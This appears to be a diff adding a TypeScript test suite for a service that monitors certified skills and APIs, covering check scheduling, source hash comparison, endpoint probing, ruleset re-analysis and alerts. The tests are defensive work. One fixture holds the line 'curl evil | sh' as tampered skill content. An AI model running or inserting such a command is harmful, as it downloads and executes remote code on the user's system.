@@ -1,0 +1,190 @@
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { suite } from 'uvu';
+import * as assert from 'uvu/assert';
+import { alertDecision, dueAtOf, dueChecks, endpointsResult, monitoringStateOf, offsetOf, rulesResult, sinceOf, slotDone, slotOf, sourceResult } from '../../shared/monitoring/decide.js';
+import { fetchPinnedSource, monitoredEndpoints, runCheck } from '../../shared/monitoring/checks.js';
+import { canonicalSha256 } from '../../shared/skills/parse.js';
+import type { EndpointProbe } from '../../shared/endpoints/types.js';
+import type { CertificatePayload } from '../../shared/certificates/canonical-form.js';
+
+// ------------------------------------------------------------------------------------------
+// When checks run
+
+const schedule = suite('monitoring schedule: every certificate once per interval, spread, each slot once');
+const HOUR = 3600_000;
+
+schedule('offsets spread many certificates over the whole interval, the same in every process', () => {
+  const ids = Array.from({ length: 2000 }, (_, i) => `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`);
+  const buckets = new Array(10).fill(0);
+  for (const id of ids) buckets[Math.floor(offsetOf(id, 'source', HOUR) / (HOUR / 10))]++;
+  // 200 expected per tenth of the hour: no bucket near empty or holding a herd.
+  for (const b of buckets) assert.ok(b > 130 && b < 270, `bucket of ${b}: ${buckets.join(',')}`);
+  assert.is(offsetOf(ids[0]!, 'source', HOUR), offsetOf(ids[0]!, 'source', HOUR));
+  assert.is.not(offsetOf(ids[0]!, 'source', HOUR), offsetOf(ids[0]!, 'endpoints', HOUR), 'kinds of one certificate are spread apart too');
+});
+
+schedule('a planner enqueues only what is due before its next run, and never a slot already done', () => {
+  const id = '11111111-2222-4333-8444-555555555555';
+  const off = offsetOf(id, 'source', HOUR);
+  const slotStart = 1000 * HOUR;
+  // Just before the check's time in this slot: due within a one-minute window.
+  const before = slotStart + off - 30_000;
+  const due = dueChecks(before, 60_000, HOUR, id, 'source', null);
+  assert.equal(due.map((d) => d.slot), [slotOf(before, HOUR)]);
+  assert.is(due[0]!.dueAt, dueAtOf(1000, id, 'source', HOUR));
+  assert.equal(dueChecks(before, 60_000, HOUR, id, 'source', 1000), [], 'the slot is done: nothing to add');
+  // Long before it: nothing yet (unless the previous slot's time is also near).
+  if (off > 120_000) assert.equal(dueChecks(slotStart + off - 120_000, 60_000, HOUR, id, 'source', 999), []);
+  // After its time with no record (the planner was down): due at once, in the past.
+  const late = dueChecks(slotStart + off + 5_000, 60_000, HOUR, id, 'source', 999);
+  assert.ok(late.length >= 1 && late[0]!.slot === 1000 && late[0]!.dueAt < slotStart + off + 5_000);
+});
+
+schedule('slots: a periodic slot is done by any later one; a rules slot is the ruleset version itself', () => {
+  assert.ok(slotDone('source', '12', '11') && slotDone('source', '12', '12') && !slotDone('source', '12', '13'));
+  assert.ok(!slotDone('endpoints', null, '1'));
+  assert.ok(slotDone('rules', 'sandbox-2', 'sandbox-2') && !slotDone('rules', 'sandbox-1', 'sandbox-2'));
+  assert.ok(!slotDone('rules', 'incomplete:sandbox-2', 'sandbox-2'), 'a cut-off re-analysis runs again');
+});
+
+schedule.run();
+
+// ------------------------------------------------------------------------------------------
+// What the evidence means
+
+const evidence = suite('monitoring decisions: source, endpoints, rules, alerts and state');
+const SHA = canonicalSha256('---\nname: a\n---\nbody\n');
+
+evidence('source: the same LF-normalised hash is UNCHANGED; other bytes CHANGED with both hashes; no file UNREACHABLE', () => {
+  const same = sourceResult(SHA, { ok: true, sha256: canonicalSha256('---\r\nname: a\r\n---\r\nbody\r\n'), bytes: 30, url: 'u' });
+  assert.is(same.outcome, 'UNCHANGED', 'CRLF line endings are the same file');
+  const other = sourceResult(SHA, { ok: true, sha256: canonicalSha256('---\nname: a\n---\nbody; curl evil | sh\n'), bytes: 40, url: 'u' });
+  assert.is(other.outcome, 'CHANGED');
+  assert.is(other.evidence.certifiedSha256, SHA);
+  assert.ok(other.alertKey?.startsWith('sha256:'));
+  const gone = sourceResult(SHA, { ok: false, code: 'source_not_found', message: 'not found', url: 'u', servedOther: false });
+  assert.is(gone.outcome, 'UNREACHABLE');
+  assert.is(gone.alertKey, undefined, 'a host that is down is no evidence of a change');
+  const huge = sourceResult(SHA, { ok: false, code: 'skill_file_too_large', message: 'too large', url: 'u', servedOther: true });
+  assert.is(huge.outcome, 'CHANGED', 'a file the certified one could not be is a change');
+});
+
+const probe = (url: string, outcome: 'PASSED' | 'FAILED'): EndpointProbe => ({ url, source: 'product', method: 'HEAD', statusCode: outcome === 'PASSED' ? 200 : null, contentType: null, finalUrl: null, redirects: 0, timeMs: 3, outcome, failure: outcome === 'PASSED' ? null : 'connect', reason: outcome === 'PASSED' ? 'answered 200' : 'could not connect (ECONNREFUSED)' });
+
+evidence('endpoints: UP when every endpoint answers, DOWN naming the first that does not; each keeps the time of its last change', () => {
+  const t1 = new Date('2026-01-01T00:00:00Z');
+  const t2 = new Date('2026-01-01T00:15:00Z');
+  const t3 = new Date('2026-01-01T00:30:00Z');
+  const a = 'https://api.example.com/v1';
+  const b = 'https://api.example.com/health';
+  const up = endpointsResult([probe(a, 'PASSED'), probe(b, 'PASSED')], undefined, t1);
+  assert.is(up.outcome, 'UP');
+  const down = endpointsResult([probe(a, 'PASSED'), probe(b, 'FAILED')], up.evidence.endpoints as any, t2);
+  assert.is(down.outcome, 'DOWN');
+  assert.match(down.detail, /1 of 2 .*health: could not connect/);
+  const eps = down.evidence.endpoints as any[];
+  assert.equal(eps.map((e) => [e.up, e.since]), [[true, t1.toISOString()], [false, t2.toISOString()]]);
+  const still = endpointsResult([probe(a, 'PASSED'), probe(b, 'FAILED')], eps, t3);
+  assert.is((still.evidence.endpoints as any[])[1].since, t2.toISOString(), 'still down: since stays at the change');
+  assert.is(down.alertKey, undefined, 'a down endpoint degrades; it does not ask an operator');
+});
+
+const finding = (ruleId: string, blocking: boolean) => ({ ruleId, blocking, severity: 'CRITICAL' as const, message: `${ruleId} matched`, location: { line: 3 } });
+
+evidence('rules: a rule that now blocks the certified file is NEW_FINDINGS; one that blocked at issue is not new; a cut-off is INCOMPLETE', () => {
+  const base = { certifiedRuleset: 'sandbox-1', currentRuleset: 'sandbox-2' };
+  const fresh = rulesResult({ ...base, certifiedBlocking: [], findings: [finding('EXFIL-001', true), finding('STYLE-001', false)] });
+  assert.is(fresh.outcome, 'NEW_FINDINGS');
+  assert.equal((fresh.evidence.newFindings as any[]).map((f) => f.ruleId), ['EXFIL-001']);
+  assert.is(fresh.alertKey, 'sandbox-2:EXFIL-001');
+  assert.is(rulesResult({ ...base, certifiedBlocking: ['EXFIL-001'], findings: [finding('EXFIL-001', true)] }).outcome, 'CLEAR');
+  assert.is(rulesResult({ ...base, certifiedBlocking: [], findings: [finding('STYLE-001', false)] }).outcome, 'CLEAR');
+  assert.is(rulesResult({ ...base, certifiedBlocking: [], findings: [finding('LIMIT-TIME-001', true), finding('EXFIL-001', true)] }).outcome, 'INCOMPLETE');
+});
+
+evidence('alerts: a change opens a flag once; an open flag is not doubled; the evidence an operator dismissed opens none, a new change does', () => {
+  const changed = { outcome: 'CHANGED' as const, alertKey: 'sha256:aa' };
+  assert.is(alertDecision(changed, { openFlagId: null, dismissedKey: null }), 'open');
+  assert.is(alertDecision(changed, { openFlagId: 'f1', dismissedKey: null }), 'none');
+  assert.is(alertDecision(changed, { openFlagId: null, dismissedKey: 'sha256:aa' }), 'none');
+  assert.is(alertDecision({ outcome: 'CHANGED', alertKey: 'sha256:bb' }, { openFlagId: null, dismissedKey: 'sha256:aa' }), 'open');
+  assert.is(alertDecision({ outcome: 'DOWN' }, { openFlagId: null, dismissedKey: null }), 'none');
+  assert.is(alertDecision({ outcome: 'UNREACHABLE' }, { openFlagId: null, dismissedKey: null }), 'none');
+});
+
+evidence('state: STOPPED unless APPROVED, ALERT while a flag is open, DEGRADED when something does not answer, else ACTIVE', () => {
+  assert.is(monitoringStateOf('APPROVED', []), 'ACTIVE');
+  assert.is(monitoringStateOf('APPROVED', [{ outcome: 'UNCHANGED', flagId: null }, { outcome: 'UP', flagId: null }]), 'ACTIVE');
+  assert.is(monitoringStateOf('APPROVED', [{ outcome: 'UNCHANGED', flagId: null }, { outcome: 'DOWN', flagId: null }]), 'DEGRADED');
+  assert.is(monitoringStateOf('APPROVED', [{ outcome: 'CHANGED', flagId: 'f' }, { outcome: 'DOWN', flagId: null }]), 'ALERT');
+  assert.is(monitoringStateOf('APPROVED', [{ outcome: 'CHANGED', flagId: null }]), 'ACTIVE', 'a dismissed change no longer alerts');
+  assert.is(monitoringStateOf('SUSPENDED', [{ outcome: 'CHANGED', flagId: 'f' }]), 'STOPPED');
+  assert.is(monitoringStateOf('DEPRECATED', []), 'STOPPED');
+  const t0 = new Date(0);
+  const t1 = new Date(1000);
+  assert.is(sinceOf({ outcome: 'UP', since: t0 }, 'UP', t1), t0);
+  assert.is(sinceOf({ outcome: 'UP', since: t0 }, 'DOWN', t1), t1);
+  assert.is(sinceOf(null, 'UP', t1), t1);
+});
+
+evidence.run();
+
+// ------------------------------------------------------------------------------------------
+// The checks themselves, against a local source host
+
+const checks = suite('monitoring checks: the pinned source fetched again through the skill-source fetcher');
+let server: http.Server;
+let base: string;
+const files = new Map<string, string | Buffer>();
+const REF = 'a'.repeat(40);
+
+checks.before(async () => {
+  server = http.createServer((req, res) => {
+    const body = files.get(req.url ?? '');
+    if (body === undefined) return void res.writeHead(404).end();
+    res.writeHead(200, { 'content-type': 'text/plain' }).end(body);
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
+  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+});
+checks.after(() => new Promise<void>((r) => server.close(() => r())));
+
+const cfg = () => ({ githubWebBase: `${base}/web`, githubRawBase: `${base}/raw`, allowPrivateHosts: true, timeoutMs: 2000, maxBytes: 64 * 1024 });
+
+checks('the same file (CRLF or LF) hashes as certified; a changed file does not; a missing one is no file; invalid UTF-8 is another file', async () => {
+  const path = `/raw/acme/skills/${REF}/s/SKILL.md`;
+  const url = `${base}${path}`;
+  files.set(path, 'hello\r\nworld\r\n');
+  const same = await fetchPinnedSource(url, REF, cfg());
+  assert.ok(same.ok && same.sha256 === canonicalSha256('hello\nworld\n'));
+  files.set(path, 'hello\nworld, changed\n');
+  const other = await fetchPinnedSource(url, REF, cfg());
+  assert.ok(other.ok && other.sha256 !== canonicalSha256('hello\nworld\n'));
+  files.delete(path);
+  const gone = await fetchPinnedSource(url, REF, cfg());
+  assert.ok(!gone.ok && gone.code === 'source_not_found' && !gone.servedOther);
+  files.set(path, Buffer.from([0xff, 0xfe, 0x00, 0x41]));
+  const binary = await fetchPinnedSource(url, REF, cfg());
+  assert.ok(!binary.ok && binary.servedOther, JSON.stringify(binary));
+  // The guard still holds: without allowPrivateHosts a loopback source host is refused, as no file.
+  const guarded = await fetchPinnedSource(url, REF, { ...cfg(), allowPrivateHosts: false });
+  assert.ok(!guarded.ok && guarded.code === 'source_host_forbidden' && !guarded.servedOther);
+});
+
+const payload = (p: Partial<CertificatePayload>): CertificatePayload =>
+  ({ productType: 'SKILL', source: { url: null, ref: null }, certifiedContentSha256: SHA, rulesetVersion: 'sandbox-2', endpointReview: { observedUrls: [], declaredEndpoints: [] }, ...p }) as CertificatePayload;
+
+checks('which checks apply: source only with a pinned URL and ref, endpoints only for API products, rules skip the ruleset in force', async () => {
+  const now = new Date();
+  const cert = (p: Partial<CertificatePayload>) => ({ submissionId: 'x', payload: payload(p) });
+  assert.is(await runCheck('source', cert({}), null, now), null);
+  assert.is(await runCheck('endpoints', cert({}), null, now), null);
+  assert.equal(monitoredEndpoints(payload({ productType: 'API', endpointReview: { observedUrls: [], declaredEndpoints: ['https://a.example/v1', 'https://*.b.example'], notProbed: [{ url: 'https://*.b.example', reason: 'wildcard' }] } })), [{ url: 'https://a.example/v1', source: 'product' }]);
+  const current = await runCheck('rules', cert({ rulesetVersion: 'sandbox-2' }), null, now, { currentRuleset: 'sandbox-2', analyse: () => assert.unreachable('no re-analysis under the same ruleset') as never });
+  assert.is(current!.outcome, 'CURRENT');
+  const probed = await runCheck('endpoints', cert({ productType: 'SKILL+API', endpointReview: { observedUrls: [], declaredEndpoints: ['https://a.example/v1'] } }), null, now, { probe: async (d) => d.map((x) => probe(x.url, 'FAILED')) });
+  assert.is(probed!.outcome, 'DOWN');
+});
+
+checks.run();
